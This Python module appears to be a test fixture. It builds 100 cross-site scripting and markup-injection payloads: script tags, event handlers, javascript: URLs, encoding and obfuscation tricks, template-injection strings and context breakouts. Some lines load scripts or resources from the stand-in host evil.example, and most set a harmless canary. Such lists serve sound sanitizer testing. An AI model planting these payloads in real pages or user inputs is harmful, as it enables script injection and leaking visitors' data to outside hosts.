"""A hundred texts that would run a script, load something or break out of their place, were they ever taken as markup.

Each would raise ``globalThis.canary``, open a dialog, or ask ``evil.example`` for something.
"""

from __future__ import annotations

_RUN = "globalThis.canary=1"
_CALL = "alert(1)"
_AWAY = "https://evil.example"

_EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerenter"]
_TAGS = [
    "img src=x {event}={run}",
    "svg {event}={run}",
    "body {event}={run}",
    "input autofocus {event}={run}",
    "details open {event}={run}",
    "video src=x {event}={run}",
]
_BREAKS = ["", '">', "'>", "</textarea>", "</title>", "--></script>", "</p></div>"]

_SINGLE = [
    f"<script>{_RUN}</script>",
    f"<script src={_AWAY}/x.js></script>",
    f'<script type="module">import "{_AWAY}/m.js"</script>',
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<a href="javascript:{_RUN}">资料</a>',
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_CALL}",
    f"data:text/html,<script>{_RUN}</script>",
    f"[资料](javascript:{_RUN})",
    f"![图]({_AWAY}/pixel.png)",
    f'<link rel="stylesheet" href="{_AWAY}/x.css">',
    f"<style>@import '{_AWAY}/y.css';</style>",
    f"<style>body{{background:url({_AWAY}/b.png)}}</style>",
    f'<div style="background:url({_AWAY}/c.png)">',
    f'<meta http-equiv="refresh" content="0;url={_AWAY}">',
    f'<base href="{_AWAY}/">',
    f'<object data="{_AWAY}/o.swf"></object>',
    f'<embed src="{_AWAY}/e.swf">',
    f'<form action="{_AWAY}"><input type=submit autofocus></form>',
    f'<img src="{_AWAY}/i.png">',
    f"<img src=x srcset='{_AWAY}/s.png 1x'>",
    f'<audio src="{_AWAY}/a.mp3" autoplay>',
    f'<svg><use href="{_AWAY}/u.svg#x"/></svg>',
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text>资料</text></a></svg>',
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mi//xlink:href='data:x,<script>{_RUN}</script>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<xmp><img src=x onerror={_RUN}></xmp>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<!--<img src=x onerror={_RUN}>-->",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"＜script＞{_RUN}＜/script＞",
    f"<scr\u200bipt>{_RUN}</scr\u200bipt>",
    f"<ScRiPt >{_RUN}</ScRiPt >",
    f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<img src=`x` onerror={_RUN}>",
    f"<img/src/onerror={_RUN}>",
    f"<a/onmouseover={_RUN}>资料</a>",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"<%= {_RUN} %>",
    f"'-{_RUN}-'",
    f'";{_RUN}//',
    f"`${{{_RUN}}}`",
    f"');{_RUN}//",
    f"__proto__[canary]=1 {_CALL}",
    f"\u202e<script>{_RUN}</script>",
    f'{{"error":{{"message":"<img src=x onerror={_RUN}>"}}}}',
]


def _made() -> list[str]:
    combined = [
        f"{before}<{tag.format(event=event, run=_CALL if number % 2 else _RUN)}>"
        for number, (tag, event) in enumerate((tag, event) for event in _EVENTS for tag in _TAGS)
        for before in [_BREAKS[number % len(_BREAKS)]]
    ]
    return (_SINGLE + combined)[:100]


PAYLOADS = _made()
